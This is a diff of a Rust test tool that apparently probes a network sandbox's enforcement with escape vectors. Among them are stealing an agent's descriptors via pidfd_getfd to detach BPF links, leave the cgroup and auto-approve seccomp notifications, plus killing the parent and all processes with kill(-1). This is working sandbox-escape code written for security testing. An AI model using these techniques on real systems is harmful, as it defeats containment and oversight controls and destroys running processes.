+                        surprises.push(format!("connect {denied}: {}", a.detail));
+                    }
+                    i += 1;
+                }
+                *c.entry("iterations").or_default() += i;
+                (c, surprises)
+            })
+        })
+        .collect();
+    let signaller = {
+        let (tids, stop, sent) = (tids.clone(), stop.clone(), sent.clone());
+        std::thread::spawn(move || {
+            // SAFETY: plain syscall.
+            let pid = unsafe { libc::getpid() };
+            while !stop.load(Ordering::Relaxed) {
+                let list = tids.lock().unwrap().clone();
+                for t in list {
+                    // SAFETY: tgkill to a thread of our own process (it may
+                    // have exited: ESRCH is harmless).
+                    if unsafe { libc::syscall(libc::SYS_tgkill, pid, t, libc::SIGURG) } == 0 {
+                        sent.fetch_add(1, Ordering::Relaxed);
+                    }
+                }
+                std::thread::sleep(period);
+            }
+        })
+    };
+    let mut counts: std::collections::BTreeMap<&'static str, u64> = Default::default();
+    let mut surprises = Vec::new();
+    for w in workers {
+        match w.join() {
+            Ok((c, s)) => {
+                for (k, v) in c {
+                    *counts.entry(k).or_default() += v;
+                }
+                surprises.extend(s);
+            }
+            Err(_) => surprises.push("worker panicked".into()),
+        }
+    }
+    stop.store(true, Ordering::Relaxed);
+    let _ = signaller.join();
+    let handled = SIGURG_HANDLED.load(Ordering::Relaxed);
+    let sent = sent.load(Ordering::Relaxed);
+    extra.insert("counts".into(), json!(counts));
+    extra.insert("surprises".into(), json!(surprises));
+    extra.insert("signals_sent".into(), json!(sent));
+    extra.insert("signals_handled".into(), json!(handled));
+    let iters = counts.get("iterations").copied().unwrap_or(0);
+    Attempt {
+        ok: surprises.is_empty() && iters > 0,
+        errno: None,
+        detail: format!(
+            "{threads} threads, {secs}s, {sent} SIGURG sent ({handled} handled): {counts:?}; \
+             surprises: {surprises:?}"
+        ),
+    }
+}
+
+fn udp_local_addr(fd: RawFd) -> Option<SocketAddr> {
+    // SAFETY: zeroed storage is a valid out-parameter.
+    let mut ss: libc::sockaddr_storage = unsafe { mem::zeroed() };
+    let mut len = mem::size_of::<libc::sockaddr_storage>() as libc::socklen_t;
+    // SAFETY: valid out pointers.
+    if unsafe { libc::getsockname(fd, &mut ss as *mut _ as *mut libc::sockaddr, &mut len) } != 0 {
+        return None;
+    }
+    // SAFETY: an AF_INET socket.
+    let sin = unsafe { &*(&ss as *const _ as *const libc::sockaddr_in) };
+    Some(SocketAddr::new(
+        Ipv4Addr::from(u32::from_be(sin.sin_addr.s_addr)).into(),
+        u16::from_be(sin.sin_port),
+    ))
+}
+
+/// Passes a pipe's write end over a unix socketpair (stream and datagram)
+/// with SCM_RIGHTS, writes through the received descriptor and reads it
+/// back from the pipe.
+fn scm_rights(steps: &mut Steps) -> Attempt {
+    let mut all_ok = true;
+    for (ty, name) in [(libc::SOCK_STREAM, "stream"), (libc::SOCK_DGRAM, "dgram")] {
+        let a = scm_rights_once(ty);
+        all_ok &= a.ok;
+        steps.push(name, &a);
+    }
+    if all_ok {
+        Attempt::success("SCM_RIGHTS over unix stream and datagram socketpairs works")
+    } else {
+        let bad: Vec<_> = steps
+            .0
+            .iter()
+            .filter(|s| s["ok"] == false)
+            .cloned()
+            .collect();
+        Attempt {
+            ok: false,
+            errno: bad
+                .first()
+                .and_then(|s| s["errno"].as_i64())
+                .map(|e| e as i32),
+            detail: format!("SCM_RIGHTS failed: {bad:?}"),
+        }
+    }
+}
+
+fn scm_rights_once(ty: libc::c_int) -> Attempt {
+    let mut sv = [0; 2];
+    // SAFETY: valid out array.
+    if unsafe { libc::socketpair(libc::AF_UNIX, ty | libc::SOCK_CLOEXEC, 0, sv.as_mut_ptr()) } != 0
+    {
+        return Attempt::last_os("socketpair(AF_UNIX)");
+    }
+    // SAFETY: fresh descriptors we own.
+    let (s0, s1) = unsafe { (OwnedFd::from_raw_fd(sv[0]), OwnedFd::from_raw_fd(sv[1])) };
+    let mut p = [0; 2];
+    // SAFETY: valid out array.
+    if unsafe { libc::pipe2(p.as_mut_ptr(), libc::O_CLOEXEC) } != 0 {
+        return Attempt::last_os("pipe2");
+    }
+    // SAFETY: fresh descriptors we own.
+    let (pr, pw) = unsafe { (OwnedFd::from_raw_fd(p[0]), OwnedFd::from_raw_fd(p[1])) };
+    if let Err(e) = sendmsg_cmsg_data(
+        s0.as_raw_fd(),
+        b"fd",
+        libc::SOL_SOCKET,
+        libc::SCM_RIGHTS,
+        &pw.as_raw_fd().to_ne_bytes(),
+    ) {
+        return Attempt::fail("sendmsg(SCM_RIGHTS)", &e);
+    }
+    drop(pw);
+    let mut data = [0u8; 16];
+    let mut cbuf = [0u64; 8];
+    let mut iov = libc::iovec {
+        iov_base: data.as_mut_ptr().cast(),
+        iov_len: data.len(),
+    };
+    // SAFETY: all-zero msghdr is valid; fields set below.
+    let mut msg: libc::msghdr = unsafe { mem::zeroed() };
+    msg.msg_iov = &mut iov;
+    msg.msg_iovlen = 1;
+    msg.msg_control = cbuf.as_mut_ptr().cast();
+    msg.msg_controllen = mem::size_of_val(&cbuf) as _;
+    // SAFETY: live buffers.
+    let n = unsafe { libc::recvmsg(s1.as_raw_fd(), &mut msg, libc::MSG_CMSG_CLOEXEC) };
+    if n < 0 {
+        return Attempt::last_os("recvmsg");
+    }
+    let mut got = None;
+    // SAFETY: walking the control buffer the kernel filled in.
+    unsafe {
+        let c = libc::CMSG_FIRSTHDR(&msg);
+        if !c.is_null() && (*c).cmsg_level == libc::SOL_SOCKET && (*c).cmsg_type == libc::SCM_RIGHTS
+        {
+            got = Some(std::ptr::read_unaligned(libc::CMSG_DATA(c) as *const i32));
+        }
+    }
+    let Some(fd) = got else {
+        return Attempt {
+            ok: false,
+            errno: None,
+            detail: format!(
+                "recvmsg: {n} bytes {:?} but no SCM_RIGHTS descriptor",
+                &data[..n as usize]
+            ),
+        };
+    };
+    // SAFETY: a descriptor the kernel installed for us.
+    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
+    if let Err(e) =
+        cvt(unsafe { libc::write(fd.as_raw_fd(), b"hello".as_ptr().cast(), 5) } as libc::c_int)
+    {
+        return Attempt::fail("write through the received descriptor", &e);
+    }
+    drop(fd);
+    let mut out = [0u8; 8];
+    // SAFETY: valid buffer.
+    let n = unsafe { libc::read(pr.as_raw_fd(), out.as_mut_ptr().cast(), out.len()) };
+    if n != 5 || &out[..5] != b"hello" {
+        return Attempt {
+            ok: false,
+            errno: None,
+            detail: format!(
+                "pipe read {n} bytes {:?}, expected \"hello\"",
+                &out[..n.max(0) as usize]
+            ),
+        };
+    }
+    Attempt::success("passed a pipe over SCM_RIGHTS and wrote through it")
+}
+
+/// sendmsg() of `payload` with one control message (no destination).
+fn sendmsg_cmsg_data(
+    fd: RawFd,
+    payload: &[u8],
+    level: libc::c_int,
+    ty: libc::c_int,
+    data: &[u8],
+) -> io::Result<usize> {
+    let (mut cbuf, clen) = cmsg_buf(level, ty, data);
+    let mut iov = libc::iovec {
+        iov_base: payload.as_ptr() as *mut libc::c_void,
+        iov_len: payload.len(),
+    };
+    // SAFETY: all-zero msghdr is valid; fields set below.
+    let mut msg: libc::msghdr = unsafe { mem::zeroed() };
+    msg.msg_iov = &mut iov;
+    msg.msg_iovlen = 1;
+    msg.msg_control = cbuf.as_mut_ptr() as *mut libc::c_void;
+    msg.msg_controllen = clen as _;
+    // SAFETY: msg points to live buffers for the call.
+    let n = unsafe { libc::sendmsg(fd, &msg, 0) };
+    errno_of(n as libc::c_long).map(|n| n as usize)
+}
+
+/// Descriptors of another process (default: our parent; under a privileged
+/// agent that is the pid namespace's init, a fork of the agent; without
+/// privileges it is the agent itself) taken with pidfd_getfd and used
+/// (`--use links|cgroup|listener|all`): BPF links are detached; through a
+/// cgroup directory, "0" is written to its ancestors' cgroup.procs; a
+/// seccomp listener answers our own notifications with "continue" (from a
+/// second thread). Then --target:--port is connected (--tries times).
+/// Also reports whether PTRACE_SEIZE of that process works.
+fn steal_fds(
+    args: &Args,
+    steps: &mut Steps,
+    extra: &mut serde_json::Map<String, Value>,
+) -> Attempt {
+    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+    use std::sync::Arc;
+    let sa = args.target_sa();
+    let use_ = args.get("use").unwrap_or("all").to_string();
+    let uses = |t: &str| use_ == "all" || use_ == t;
+    // SAFETY: plain syscall.
+    let from: i32 = args.num("from", Some(unsafe { libc::getppid() }));
+    extra.insert("from".into(), json!(from));
+    extra.insert(
+        "from_comm".into(),
+        json!(fs::read_to_string(format!("/proc/{from}/comm")).ok()),
+    );
+    // SAFETY: plain syscall; the result is a new fd we own.
+    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, from, 0) };
+    if pidfd < 0 {
+        steps.push(
+            "pidfd_open",
+            &Attempt::last_os(&format!("pidfd_open({from})")),
+        );
+    }
+    let fds: Vec<(i32, String)> = match fs::read_dir(format!("/proc/{from}/fd")) {
+        Ok(rd) => rd
+            .flatten()
+            .filter_map(|e| {
+                let n: i32 = e.file_name().to_str()?.parse().ok()?;
+                let l = fs::read_link(e.path())
+                    .map(|l| l.display().to_string())
+                    .unwrap_or_default();
+                Some((n, l))
+            })
+            .collect(),
+        Err(e) => {
+            steps.push(
+                "list-fds",
+                &Attempt::fail(&format!("list /proc/{from}/fd"), &e),
+            );
+            // Blind: try the first 64 descriptors.
+            (0..64).map(|n| (n, String::new())).collect()
+        }
+    };
+    let mut stolen = Vec::new();
+    let mut listeners = Vec::new();
+    if pidfd >= 0 {
+        for (n, link) in &fds {
+            // SAFETY: plain syscall; the result is a new fd we own.
+            let fd = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd as i32, *n, 0) };
+            if fd < 0 {
+                let e = io::Error::last_os_error();
+                if !link.is_empty() || e.raw_os_error() != Some(libc::EBADF) {
+                    steps.push(
+                        &format!("getfd {n} {link}"),
+                        &Attempt::fail("pidfd_getfd", &e),
+                    );
+                }
+                continue;
+            }
+            let fd = fd as i32;
+            let what = fs::read_link(format!("/proc/self/fd/{fd}"))
+                .map(|l| l.display().to_string())
+                .unwrap_or_default();
+            steps.push(
+                &format!("getfd {n}"),
+                &Attempt::success(format!("got {what} as fd {fd}")),
+            );
+            stolen.push(what.clone());
+            if uses("links") && (what.contains("bpf-link") || what.contains("bpf_link")) {
+                let mut d = bpf::Attr::new();
+                d.u32_at(0, fd as u32);
+                steps.push(
+                    &format!("link-detach {n}"),
+                    &match bpf::sys(bpf::BPF_LINK_DETACH, &mut d) {
+                        Ok(_) => Attempt::success("detached a stolen BPF link"),
+                        Err(e) => Attempt::fail("BPF_LINK_DETACH", &e),
+                    },
+                );
+            }
+            if uses("listener") && what.contains("seccomp") {
+                listeners.push(fd);
+            }
+            if uses("cgroup")
+                && what.starts_with('/')
+                && Path::new(&format!("/proc/self/fd/{fd}")).is_dir()
+            {
+                // A directory of the agent's: if it is a cgroup, its
+                // ancestors' cgroup.procs are reachable through it even
+                // though every cgroup mount is hidden by path.
+                for rel in ["../../cgroup.procs", "../cgroup.procs"] {
+                    let Ok(c) = CString::new(rel) else { continue };
+                    // SAFETY: valid dirfd and C string.
+                    let f =
+                        unsafe { libc::openat(fd, c.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
+                    if f < 0 {
+                        let e = io::Error::last_os_error();
+                        if e.raw_os_error() != Some(libc::ENOENT) {
+                            steps.push(
+                                &format!("move-via {what}/{rel}"),
+                                &Attempt::fail("openat", &e),
+                            );
+                        }
+                        continue;
+                    }
+                    // SAFETY: a descriptor we just opened.
+                    let mut f = unsafe { fs::File::from_raw_fd(f) };
+                    steps.push(
+                        &format!("move-via {what}/{rel}"),
+                        &match f.write_all(b"0") {
+                            Ok(()) => Attempt::success(format!("wrote \"0\" to {what}/{rel}")),
+                            Err(e) => Attempt::fail("write", &e),
+                        },
+                    );
+                }
+            }
+        }
+    }
+    extra.insert("stolen".into(), json!(stolen));
+    extra.insert("cgroup_after".into(), json!(own_cgroup()));
+    // SAFETY: ptrace(SEIZE) then DETACH of one pid; informational.
+    let seized = unsafe { libc::ptrace(libc::PTRACE_SEIZE, from, 0, 0) } == 0;
+    steps.push(
+        "ptrace-seize",
+        &if seized {
+            // SAFETY: detaching the tracee we just seized.
+            unsafe { libc::ptrace(libc::PTRACE_DETACH, from, 0, 0) };
+            Attempt::success(format!("PTRACE_SEIZE of {from} succeeded"))
+        } else {
+            Attempt::last_os(&format!("PTRACE_SEIZE {from}"))
+        },
+    );
+    // Answer our own notifications with CONTINUE from other threads.
+    let stop = Arc::new(AtomicBool::new(false));
+    let answered = Arc::new(AtomicU64::new(0));
+    let mut helpers = Vec::new();
+    for &l in &listeners {
+        let (stop, answered) = (stop.clone(), answered.clone());
+        helpers.push(std::thread::spawn(move || {
+            const CONTINUE: u32 = 1;
+            while !stop.load(Ordering::Relaxed) {
+                let mut p = libc::pollfd {
+                    fd: l,
+                    events: libc::POLLIN,
+                    revents: 0,
+                };
+                // SAFETY: one valid pollfd.
+                if unsafe { libc::poll(&mut p, 1, 50) } <= 0 {
+                    continue;
+                }
+                // SAFETY: zeroed notification struct as the ioctl expects.
+                let mut n: libc::seccomp_notif = unsafe { mem::zeroed() };
+                // SAFETY: valid fd and out struct.
+                if unsafe { libc::ioctl(l, libc::SECCOMP_IOCTL_NOTIF_RECV, &mut n) } != 0 {
+                    continue;
+                }
+                let mut resp = libc::seccomp_notif_resp {
+                    id: n.id,
+                    val: 0,
+                    error: 0,
+                    flags: CONTINUE,
+                };
+                // SAFETY: valid fd and response struct.
+                if unsafe { libc::ioctl(l, libc::SECCOMP_IOCTL_NOTIF_SEND, &mut resp) } == 0 {
+                    answered.fetch_add(1, Ordering::Relaxed);
+                }
+            }
+        }));
+    }
+    let tries: usize = args.num("tries", Some(if listeners.is_empty() { 1 } else { 40 }));
+    let mut last = Attempt::success("no attempt");
+    for _ in 0..tries {
+        last = tcp_connect(sa, 0);
+        if last.ok {
+            break;
+        }
+    }
+    stop.store(true, Ordering::Relaxed);
+    for h in helpers {
+        let _ = h.join();
+    }
+    extra.insert(
+        "answered_with_continue".into(),
+        json!(answered.load(Ordering::Relaxed)),
+    );
+    last
+}
+
+/// From inside the sandbox: SIGKILL the parent (under a privileged agent,
+/// the pid namespace's init) and then every process we may signal
+/// (`kill(-1)`); wait a little; connect. `--kill-parent 0` / `--kill-all 0`
+/// skip a step.
+fn kill_agent(
+    args: &Args,
+    steps: &mut Steps,
+    extra: &mut serde_json::Map<String, Value>,
+) -> Attempt {
+    let sa = args.target_sa();
+    // SAFETY: plain syscalls.
+    let ppid = unsafe { libc::getppid() };
+    extra.insert("ppid_before".into(), json!(ppid));
+    if args.num::<u8>("kill-parent", Some(1)) == 1 {
+        // SAFETY: plain syscall.
+        let k = if unsafe { libc::kill(ppid, libc::SIGKILL) } == 0 {
+            Attempt::success(format!("kill({ppid}, SIGKILL) returned 0"))
+        } else {
+            Attempt::last_os(&format!("kill({ppid}, SIGKILL)"))
+        };
+        steps.push("kill-parent", &k);
+    }
+    if args.num::<u8>("kill-all", Some(1)) == 1 {
+        // SAFETY: plain syscall.
+        let k = if unsafe { libc::kill(-1, libc::SIGKILL) } == 0 {
+            Attempt::success("kill(-1, SIGKILL) returned 0")
+        } else {
+            Attempt::last_os("kill(-1, SIGKILL)")
+        };
+        steps.push("kill-all", &k);
+    }
+    std::thread::sleep(Duration::from_millis(300));
+    // SAFETY: plain syscall.
+    extra.insert("ppid_after".into(), json!(unsafe { libc::getppid() }));
+    tcp_connect(sa, 0)
+}
+
+// ---------------------------------------------------------------------------
 
 fn main() {
     let args = Args::parse();
@@ -2009,23 +3228,18 @@ fn main() {
             extra.insert("grandchild_pid".into(), json!(gpid));
             a
         }
-        "kill-agent" => {
-            let sa = args.target_sa();
-            // SAFETY: plain syscalls.
-            let ppid = unsafe { libc::getppid() };
-            extra.insert("agent_pid".into(), json!(ppid));
-            // SAFETY: plain syscall.
-            let k = if unsafe { libc::kill(ppid, libc::SIGKILL) } == 0 {
-                Attempt::success(format!("SIGKILL sent to parent {ppid}"))
-            } else {
-                Attempt::last_os(&format!("kill({ppid}, SIGKILL)"))
-            };
-            steps.push("kill-parent", &k);
-            std::thread::sleep(Duration::from_millis(300));
-            // SAFETY: plain syscall.
-            extra.insert("ppid_after".into(), json!(unsafe { libc::getppid() }));
-            tcp_connect(sa, 0)
+        "kill-agent" => kill_agent(&args, &mut steps, &mut extra),
+        "int80-socketcall" => int80_connect(args.target_sa(), true, &mut steps),
+        "int80-socket" => int80_connect(args.target_sa(), false, &mut steps),
+        "udp-sendmsg-cmsg-tos" | "udp6-sendmsg-cmsg-tclass" => {
+            udp_sendmsg_cmsg(args.target_sa(), args.num("count", Some(1)))
         }
+        "connect-loop" => connect_loop(&args),
+        "race-sockaddr" => race_sockaddr(&args, &mut extra),
+        "parallel-connect" => parallel_connect(&args, &mut extra),
+        "signal-storm" => signal_storm(&args, &mut extra),
+        "scm-rights" => scm_rights(&mut steps),
+        "steal-fds" => steal_fds(&args, &mut steps, &mut extra),
         other => usage(&format!("unknown vector {other:?}")),
     };
 
@@ -2040,6 +3254,10 @@ fn main() {
     out.insert("sandbox".into(), json!(env("NONO_SANDBOX_ID")));
     out.insert("cgroup".into(), json!(env("NONO_CGROUP")));
     out.insert("pin_dir".into(), json!(env("NONO_BPF_PIN_DIR")));
+    out.insert("enforcer".into(), json!(env("NONO_ENFORCER")));
+    // SAFETY: geteuid never fails.
+    out.insert("uid".into(), json!(unsafe { libc::geteuid() }));
+    out.insert("marker".into(), json!(args.get("marker")));
     out.insert("steps".into(), Value::Array(steps.0));
     out.extend(extra);
     let line = Value::Object(out).to_string();
@@ -2048,7 +3266,7 @@ fn main() {
     let _ = stdout.flush();
     drop(stdout);
 
-    if v == "kill-agent" {
+    if v == "kill-agent" && args.get("sleep").is_some() {
         write_pidfile(&args);
         devnull_stdio();
         std::thread::sleep(Duration::from_secs(args.num::<u64>("sleep", Some(30))));
